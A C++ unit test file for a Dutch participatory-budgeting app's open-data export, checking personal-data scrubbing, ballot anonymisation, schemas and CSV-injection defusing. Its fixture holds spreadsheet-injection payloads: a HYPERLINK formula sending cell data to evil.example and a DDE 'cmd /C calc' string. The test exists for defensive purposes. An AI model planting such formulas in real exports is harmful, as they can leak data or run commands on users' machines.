#include "service/open_data.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <random>
#include <regex>
#include <set>

#include "base/csv.h"
#include "base/mem_env.h"
#include "fund/pabulib.h"
#include "service/demo.h"
#include "service/field_files.h"
#include "storage/store.h"

namespace weefsel::service {
namespace {

namespace fs = std::filesystem;

class OpenDataTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() / ("weefsel_open_data_" + std::to_string(::getpid()) + "_" +
                                        ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(dir_);
    fs::create_directories(dir_);
    auto s = storage::Store::Open((dir_ / "w.db").string());
    ASSERT_TRUE(s.ok()) << s.status().ToString();
    store_ = std::move(s).value();
    DemoOptions o;
    o.actors = 120;
    o.municipalities = 2;
    auto city = GenerateDemo(o);
    ASSERT_TRUE(city.ok());
    // Personal data hidden in free text of public entities.
    city->actors[0].description = "Bel Piet op 06-12345678 of mail piet.jansen@example.nl voor meer.";
    // Formulas a spreadsheet would run when the public CSV is opened (CSV injection).
    city->actors[1].name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")";
    city->actors[2].name = "@SUM(1+1)*cmd|' /C calc'!A0";
    city->actors[3].name = "-2+3";
    ASSERT_TRUE(LoadDemo(*store_, *city).ok());

    for (int i = 0; i < 3; ++i) {
      domain::User u;
      u.email = "bewoner" + std::to_string(i) + "@voorbeeld.nl";
      u.display_name = "Geheime Bewoner " + std::to_string(i);
      u.password_hash = "$argon2id$v=19$m=65536,t=2,p=1$c2FsdA$aGFzaA";
      u.created_at = "2026-11-01T10:00:00Z";
      auto id = store_->Insert(u);
      ASSERT_TRUE(id.ok()) << id.status().ToString();
      users_.push_back(*id);
    }
    closed_ = AddRound("Buurtbudget Noord", domain::RoundPhase::kPublished);
    open_ = AddRound("Buurtbudget Zuid", domain::RoundPhase::kVoting);
  }
  void TearDown() override { fs::remove_all(dir_); }

  RoundId AddRound(const std::string& name, domain::RoundPhase phase) {
    domain::Round r;
    r.municipality = MunicipalityId(1);
    r.name = name;
    r.budget_eur = 10000;
    r.phase = phase;
    r.projects = {{"p1", ProposalId(), "Moestuin", 6000, "", ""},
                  {"p2", ProposalId(), "Speeltuin", 5000, "", ""},
                  {"p3", ProposalId(), "Bankjes", 2000, "", ""}};
    auto id = store_->Insert(r);
    EXPECT_TRUE(id.ok()) << id.status().ToString();
    const std::vector<std::vector<std::string>> votes = {{"p2", "p3"}, {"p1"}, {"p1", "p3"}};
    for (size_t i = 0; i < users_.size(); ++i) {
      domain::Ballot b;
      b.round = *id;
      b.voter = users_[i];
      b.cast_at = "2026-11-0" + std::to_string(i + 2) + "T12:00:00Z";
      for (const auto& p : votes[i]) b.entries.push_back({p, 1});
      EXPECT_TRUE(store_->PutBallot(b).ok());
    }
    return *id;
  }

  std::string ReadAll(const fs::path& p) {
    auto r = ReadFile(p.string());
    EXPECT_TRUE(r.ok()) << p;
    return r.ok() ? *r : "";
  }

  fs::path dir_;
  std::unique_ptr<storage::Store> store_;
  std::vector<UserId> users_;
  RoundId closed_, open_;
};

TEST_F(OpenDataTest, ContainsNoPersonalData) {
  fs::path out = dir_ / "open";
  auto report = ExportOpenData(*store_, out.string());
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  EXPECT_GT(report->records, 120);
  const std::regex email(R"([A-Za-z0-9._%+\-]+@[A-Za-z0-9.\-]+\.[A-Za-z]{2,})");
  int files = 0;
  for (const auto& entry : fs::recursive_directory_iterator(out)) {
    if (!entry.is_regular_file()) continue;
    ++files;
    std::string text = ReadAll(entry.path());
    EXPECT_FALSE(std::regex_search(text, email)) << entry.path() << " holds an e-mail address";
    EXPECT_EQ(text.find("Geheime Bewoner"), std::string::npos) << entry.path() << " names a resident";
    EXPECT_EQ(text.find("06-12345678"), std::string::npos) << entry.path() << " holds a phone number";
    EXPECT_EQ(text.find("argon2id"), std::string::npos) << entry.path();
    EXPECT_EQ(text.find("2026-11-02T12"), std::string::npos) << entry.path() << " holds a ballot's time";
  }
  EXPECT_EQ(files, static_cast<int>(report->files.size()));
  EXPECT_NE(ReadAll(out / "actors.csv").find("[verwijderd]"), std::string::npos);
}

// The order the .pb files have always had: by the list of (project, points), stably; compared in
// place now, so checked against the key the order was first defined by.
TEST(AnonymiseBallots, OrdersByTheEntryListsStably) {
  std::mt19937 rng(7);
  const char* ids[] = {"p1", "p10", "p2", "a", "p1x"};
  std::vector<domain::Ballot> ballots(2000);
  for (size_t i = 0; i < ballots.size(); ++i) {
    auto& b = ballots[i];
    b.voter = UserId(static_cast<int64_t>(i) + 1);
    b.cast_at = "2026-11-01T00:00:00Z";
    for (int k = static_cast<int>(rng() % 4); k > 0; --k)
      b.entries.push_back({ids[rng() % std::size(ids)], static_cast<int64_t>(rng() % 3)});
  }
  auto key = [](const domain::Ballot& b) {
    std::vector<std::pair<std::string, int64_t>> k;
    for (const auto& e : b.entries) k.emplace_back(e.project_id, e.points);
    return k;
  };
  auto expected = ballots;
  std::stable_sort(expected.begin(), expected.end(),
                   [&](const domain::Ballot& a, const domain::Ballot& b) { return key(a) < key(b); });
  auto got = AnonymiseBallots(ballots);
  ASSERT_EQ(got.size(), expected.size());
  for (size_t i = 0; i < got.size(); ++i) {
    EXPECT_EQ(key(got[i]), key(expected[i])) << i;
    EXPECT_FALSE(got[i].voter.valid());
    EXPECT_TRUE(got[i].cast_at.empty());
  }
}

TEST_F(OpenDataTest, BallotsOnlyOfClosedRoundsAndAnonymous) {
  fs::path out = dir_ / "open";
  auto report = ExportOpenData(*store_, out.string());
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  EXPECT_EQ(report->rounds_exported, 1);
  EXPECT_EQ(report->rounds_withheld, 1);
  EXPECT_TRUE(fs::exists(out / ("rounds/round-" + std::to_string(closed_.value()) + ".pb")));
  EXPECT_FALSE(fs::exists(out / ("rounds/round-" + std::to_string(open_.value()) + ".pb")));

  auto in = fund::ReadPb((out / ("rounds/round-" + std::to_string(closed_.value()) + ".pb")).string());
  ASSERT_TRUE(in.ok()) << in.status().ToString();
  ASSERT_EQ(in->voters.size(), 3u);
  std::multiset<std::string> ballots;
  for (size_t i = 0; i < in->voters.size(); ++i) {
    EXPECT_EQ(in->voters[i].id, std::to_string(i + 1));
    std::string b;
    for (const auto& e : in->voters[i].ballot) b += in->projects[e.project].id + " ";
    ballots.insert(b);
  }
  // The votes are all there, in an order set by their content, not by who cast them.
  EXPECT_EQ(ballots, (std::multiset<std::string>{"p2 p3 ", "p1 ", "p1 p3 "}));
  EXPECT_EQ(in->voters[0].ballot.size(), 1u);  // "p1" sorts first
  EXPECT_EQ(in->budget, 10000 * in->scale);

  auto rounds = nlohmann::json::parse(ReadAll(out / "rounds.json"));
  ASSERT_EQ(rounds.size(), 2u);
  for (const auto& r : rounds) {
    if (r["id"] == open_.value()) {
      EXPECT_TRUE(r["ballots"].is_null());
      EXPECT_TRUE(r["pb_file"].is_null());
    } else {
      EXPECT_EQ(r["ballots"], 3);
    }
  }
}

TEST_F(OpenDataTest, PackageListsEveryFileAndCsvMatchesJson) {
  fs::path out = dir_ / "open";
  auto report = ExportOpenData(*store_, out.string());
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  auto package = nlohmann::json::parse(ReadAll(out / "datapackage.json"));
  std::set<std::string> listed;
  for (const auto& r : package["resources"]) listed.insert(r["path"].get<std::string>());
  for (const auto& f : report->files) {
    if (f != "datapackage.json") {
      EXPECT_TRUE(listed.count(f)) << f;
    }
  }
  EXPECT_EQ(listed.size() + 1, report->files.size());

  for (const char* table : {"actors", "ties", "challenges"}) {
    auto csv = CsvTable::Parse(table, ReadAll(out / (std::string(table) + ".csv")), {"id"});
    ASSERT_TRUE(csv.ok()) << csv.status().ToString();
    auto arr = nlohmann::json::parse(ReadAll(out / (std::string(table) + ".json")));
    EXPECT_EQ(csv->rows().size(), arr.size()) << table;
  }
  std::string graphml = ReadAll(out / "fabric.graphml");
  EXPECT_NE(graphml.find("<graphml"), std::string::npos);
}

// Hostile input finding 10: open-data CSV cells starting with =, +, -, @ were written as they were.
TEST_F(OpenDataTest, CsvCellsThatASpreadsheetWouldRunAreDefused) {
  fs::path out = dir_ / "open";
  ASSERT_TRUE(ExportOpenData(*store_, out.string()).ok());
  auto csv = CsvTable::Parse("actors", ReadAll(out / "actors.csv"), {"id", "name"});
  ASSERT_TRUE(csv.ok()) << csv.status().ToString();
  int defused = 0;
  for (const auto& row : csv->rows()) {
    const std::string& name = csv->Get(row, "name");
    ASSERT_FALSE(name.empty());
    EXPECT_EQ(std::string("=+-@\t\r").find(name[0]), std::string::npos) << name;
    defused += name[0] == '\'';
  }
  EXPECT_EQ(defused, 3);
  // The JSON files keep the text as it is (a JSON reader runs nothing).
  EXPECT_NE(ReadAll(out / "actors.json").find("\"=HYPERLINK("), std::string::npos);
}

TEST(SpreadsheetSafe, OnlyCellsStartingWithAFormulaCharacter) {
  EXPECT_EQ(SpreadsheetSafe("=1+1"), "'=1+1");
  EXPECT_EQ(SpreadsheetSafe("+31 6"), "'+31 6");
  EXPECT_EQ(SpreadsheetSafe("\tx"), "'\tx");
  EXPECT_EQ(SpreadsheetSafe("Buurthuis = thuis"), "Buurthuis = thuis");
  EXPECT_EQ(SpreadsheetSafe(""), "");
}

TEST_F(OpenDataTest, RefusesANonEmptyDirectoryAndLeavesNothingBehind) {
  fs::path out = dir_ / "taken";
  fs::create_directories(out);
  std::ofstream(out / "keep.txt") << "mine";
  auto report = ExportOpenData(*store_, out.string());
  ASSERT_FALSE(report.ok());
  EXPECT_NE(report.status().message().find("not empty"), std::string::npos) << report.status().ToString();
  EXPECT_EQ(ReadAll(out / "keep.txt"), "mine");
  for (const auto& e : fs::directory_iterator(dir_))
    EXPECT_EQ(e.path().filename().string().find("partial"), std::string::npos) << "left behind: " << e.path();
}

// The files that are views of several entities (a proposal with its current version, a round with
// its counts, an experiment's lists each in a file of their own) take their columns from the field
// tables: the columns and their types are pinned here, a round's count of projects is
// `project_count` (`projects` is its list everywhere else), and free text, a measurement's source
// included, is scrubbed.
TEST_F(OpenDataTest, TheViewFilesKeepTheirColumnsAndScrubFreeText) {
  domain::Coalition co;
  co.challenge = ChallengeId(1);
  co.status = domain::CoalitionStatus::kFormed;
  co.explanation = "Gevormd; vragen aan kees@voorbeeld.nl";
  co.created_at = "2026-11-03T10:00:00Z";
  co.members = {{ActorId(1), "lead", domain::MemberStatus::kAccepted, {}}};
  auto made = store_->Insert(co);
  ASSERT_TRUE(made.ok()) << made.status().ToString();
  domain::Proposal prop;
  prop.coalition = co.id;
  prop.challenge = ChallengeId(1);
  prop.status = "funded";
  prop.versions = {
      {1, "Moestuin", "Eerste plan", 5000, {}, {}, users_[0], "2026-11-03T11:00:00Z"},
      {2, "Moestuin Noord", "Bel 06-12345678 voor een plek", 6000, {}, {}, users_[0], "2026-11-04T11:00:00Z"}};
  auto proposed = store_->Insert(prop);
  ASSERT_TRUE(proposed.ok()) << proposed.status().ToString();
  domain::Experiment e;
  e.proposal = prop.id;
  e.hypotheses = {"Meer buren kennen elkaar", "mail jan@voorbeeld.nl"};
  e.indicators = {{IndicatorId(),
                   "Bezoekers",
                   "per week",
                   10,
                   40,
                   {{"2026-11-10", 12, "Telling door piet@voorbeeld.nl"}, {"2026-11-17", 18, "Telling"}}}};
  e.milestones = {{"Aanleg", "2026-12-01", 2000, "planned", "Foto's volgen"}};
  auto started = store_->Insert(e);
  ASSERT_TRUE(started.ok()) << started.status().ToString();

  fs::path out = dir_ / "open";
  ASSERT_TRUE(ExportOpenData(*store_, out.string()).ok());
  auto package = nlohmann::json::parse(ReadAll(out / "datapackage.json"));
  auto schema = [&](const std::string& name) {
    std::vector<std::string> cols;
    for (const auto& r : package["resources"])
      if (r["name"] == name)
        for (const auto& f : r["schema"]["fields"])
          cols.push_back(f["name"].get<std::string>() + ":" + f["type"].get<std::string>());
    return cols;
  };
  using V = std::vector<std::string>;
  EXPECT_EQ(schema("coalitions"), (V{"id:integer", "challenge:integer", "status:string", "score:number",
                                     "explanation:string", "created_at:datetime"}));
  EXPECT_EQ(schema("proposals"),
            (V{"id:integer", "challenge:integer", "coalition:integer", "status:string", "supports:integer",
               "version:integer", "title:string", "plan:string", "budget_eur:integer"}));
  EXPECT_EQ(schema("rounds"), (V{"id:integer", "municipality:integer", "municipality_cbs_code:string", "name:string",
                                 "budget_eur:integer", "ballot_kind:string", "rule:string", "phase:string",
                                 "project_count:integer", "ballots:integer", "pb_file:string"}));
  EXPECT_EQ(schema("round_projects"), (V{"round:integer", "project_id:string", "proposal:integer", "title:string",
                                         "cost_eur:integer", "category:string"}));
  EXPECT_EQ(schema("experiments"), (V{"id:integer", "proposal:integer", "status:string", "hypotheses:array",
                                      "outcome:string", "learned:string"}));
  EXPECT_EQ(schema("indicators"), (V{"experiment:integer", "indicator:integer", "name:string", "unit:string",
                                     "baseline:number", "target:number"}));
  EXPECT_EQ(schema("measurements"),
            (V{"experiment:integer", "indicator:integer", "date:date", "value:number", "source:string"}));
  EXPECT_EQ(schema("milestones"),
            (V{"experiment:integer", "title:string", "due:date", "amount_eur:integer", "status:string"}));

  auto proposals = nlohmann::json::parse(ReadAll(out / "proposals.json"));
  ASSERT_EQ(proposals.size(), 1u);
  EXPECT_EQ(proposals[0]["version"], 2);
  EXPECT_EQ(proposals[0]["title"], "Moestuin Noord");
  EXPECT_EQ(proposals[0]["plan"], "Bel [verwijderd] voor een plek");
  auto coalitions = nlohmann::json::parse(ReadAll(out / "coalitions.json"));
  ASSERT_EQ(coalitions.size(), 1u);
  EXPECT_EQ(coalitions[0]["explanation"], "Gevormd; vragen aan [verwijderd]");
  EXPECT_EQ(coalitions[0]["created_at"], "2026-11-03T10:00:00Z");
  auto rounds = nlohmann::json::parse(ReadAll(out / "rounds.json"));
  ASSERT_FALSE(rounds.empty());
  EXPECT_EQ(rounds[0]["project_count"], 3);
  EXPECT_FALSE(rounds[0].contains("projects"));
  auto experiments = nlohmann::json::parse(ReadAll(out / "experiments.json"));
  ASSERT_EQ(experiments.size(), 1u);
  EXPECT_EQ(experiments[0]["hypotheses"], nlohmann::json({"Meer buren kennen elkaar", "mail [verwijderd]"}));
  auto measurements = CsvTable::Parse("measurements", ReadAll(out / "measurements.csv"), {});
  ASSERT_TRUE(measurements.ok()) << measurements.status().ToString();
  ASSERT_EQ(measurements->rows().size(), 2u);
  EXPECT_EQ(measurements->Get(measurements->rows()[0], "source"), "Telling door [verwijderd]");
  EXPECT_EQ(measurements->Get(measurements->rows()[0], "experiment"), std::to_string(e.id.value()));
  auto indicators = nlohmann::json::parse(ReadAll(out / "indicators.json"));
  ASSERT_EQ(indicators.size(), 1u);
  EXPECT_EQ(measurements->Get(measurements->rows()[1], "indicator"), indicators[0]["indicator"].dump());
  auto milestones = nlohmann::json::parse(ReadAll(out / "milestones.json"));
  ASSERT_EQ(milestones.size(), 1u);
  EXPECT_EQ(milestones[0]["due"], "2026-12-01");
  EXPECT_FALSE(milestones[0].contains("evidence")) << "a milestone's evidence text is not published";
}

// The export through base/env.h's in-memory twin (as the API's feed runs it) writes the same
// files, byte for byte, as on the disk, and leaves nothing but them: no staging directory.
TEST_F(OpenDataTest, InMemoryTheExportWritesTheSameBytesAsOnDisk) {
  fs::path out = dir_ / "open";
  auto on_disk = ExportOpenData(*store_, out.string());
  ASSERT_TRUE(on_disk.ok()) << on_disk.status().ToString();
  MemFileSystem mem;
  ASSERT_TRUE(mem.CreateDirectories("/export").ok());
  auto in_memory = ExportOpenData(*store_, "/export/open", mem);
  ASSERT_TRUE(in_memory.ok()) << in_memory.status().ToString();
  EXPECT_EQ(in_memory->files, on_disk->files);
  EXPECT_EQ(in_memory->records, on_disk->records);
  EXPECT_EQ(*mem.List("/export"), std::vector<std::string>{"open"}) << "the staging directory is gone";
  EXPECT_EQ(mem.FileCount(), on_disk->files.size());
  EXPECT_EQ(fs::exists(fs::path("/export")), false) << "nothing went to the disk";
  for (const auto& name : on_disk->files) {
    auto bytes = mem.ReadFile("/export/open/" + name);
    ASSERT_TRUE(bytes.ok()) << name;
    EXPECT_TRUE(*bytes == ReadAll(out / name)) << name << " differs";
  }
  // A directory that holds something is refused there too, and nothing is left behind.
  ASSERT_TRUE(mem.WriteFileAtomic("/export/taken", "mine").ok());
  EXPECT_EQ(ExportOpenData(*store_, "/export/taken", mem).status().code(), StatusCode::kInvalidArgument);
  EXPECT_EQ(*mem.List("/export"), (std::vector<std::string>{"open", "taken"}));
}

TEST(ScrubTest, RemovesEmailAndPhoneKeepsOtherNumbers) {
  EXPECT_EQ(ScrubPersonalData("mail a.b@c.nl nu"), "mail [verwijderd] nu");
  EXPECT_EQ(ScrubPersonalData("bel +31 6 12345678"), "bel [verwijderd]");
  EXPECT_EQ(ScrubPersonalData("bel 020-1234567!"), "bel [verwijderd]!");
  EXPECT_EQ(ScrubPersonalData("budget 250000 euro in 2026"), "budget 250000 euro in 2026");
  EXPECT_EQ(ScrubPersonalData("geen persoonsgegevens"), "geen persoonsgegevens");
}

// The open data reads the field tables (domain/fields/): each table's file has exactly the public
// fields (a municipality's CBS code beside its id), in table order, typed in the package; a field
// added to a table appears here without another edit, and a personal one never does.
template <typename T>
std::vector<std::string> PublicColumns(const domain::fields::FieldTable<T>& table) {
  return files::ColumnNames(table, [](const auto& f) { return domain::fields::InOpenData(f); });
}

TEST_F(OpenDataTest, TablesHaveExactlyThePublicFieldsOfTheFieldTables) {
  fs::path out = dir_ / "open";
  ASSERT_TRUE(ExportOpenData(*store_, out.string()).ok());
  auto package = nlohmann::json::parse(ReadAll(out / "datapackage.json"));
  auto check = [&](const std::string& name, const std::vector<std::string>& expected, const auto& table) {
    auto csv = CsvTable::Parse(name, ReadAll(out / (name + ".csv")), {});
    ASSERT_TRUE(csv.ok()) << csv.status().ToString();
    EXPECT_EQ(csv->header(), expected) << name;
    auto arr = nlohmann::json::parse(ReadAll(out / (name + ".json")));
    ASSERT_FALSE(arr.empty()) << name;
    for (const auto& f : table.fields) {
      bool is_public = domain::fields::InOpenData(f);
      EXPECT_EQ(arr[0].contains(f.name), is_public) << name << "." << f.name;
      EXPECT_EQ(f.visibility == domain::fields::Visibility::kPublic, is_public) << name << "." << f.name;
    }
    for (const auto& r : package["resources"]) {
      if (r["name"] != name) continue;
      std::vector<std::string> described;
      for (const auto& f : r["schema"]["fields"]) described.push_back(f["name"].get<std::string>());
      EXPECT_EQ(described, expected) << name;
    }
  };
  check("municipalities", PublicColumns(domain::fields::MunicipalityFields()), domain::fields::MunicipalityFields());
  check("actors", PublicColumns(domain::fields::ActorFields()), domain::fields::ActorFields());
  check("ties", PublicColumns(domain::fields::TieFields()), domain::fields::TieFields());
  check("challenges", PublicColumns(domain::fields::ChallengeFields()), domain::fields::ChallengeFields());
  std::vector<std::string> members = {"coalition"};
  for (const auto& name : PublicColumns(domain::fields::CoalitionMemberFields())) members.push_back(name);
  auto members_csv = CsvTable::Parse("coalition_members", ReadAll(out / "coalition_members.csv"), {});
  ASSERT_TRUE(members_csv.ok()) << members_csv.status().ToString();
  EXPECT_EQ(members_csv->header(), members);
  // The classification the tables carry today: a tie's note is personal, an actor's source internal.
  EXPECT_EQ(ReadAll(out / "ties.json").find("\"note\""), std::string::npos);
  EXPECT_EQ(ReadAll(out / "actors.json").find("\"source\""), std::string::npos);
  // One meaning for "municipality" (an id) in every table, the CBS code beside it.
  auto actors = nlohmann::json::parse(ReadAll(out / "actors.json"));
  auto challenges = nlohmann::json::parse(ReadAll(out / "challenges.json"));
  auto rounds = nlohmann::json::parse(ReadAll(out / "rounds.json"));
  for (const auto* arr : {&actors, &challenges, &rounds}) {
    ASSERT_FALSE(arr->empty());
    const auto& first = (*arr)[0];
    EXPECT_TRUE(first["municipality"].is_number_integer()) << first.dump();
    EXPECT_TRUE(first["municipality_cbs_code"].get<std::string>().starts_with("GM")) << first.dump();
  }
}

}  // namespace
}  // namespace weefsel::service
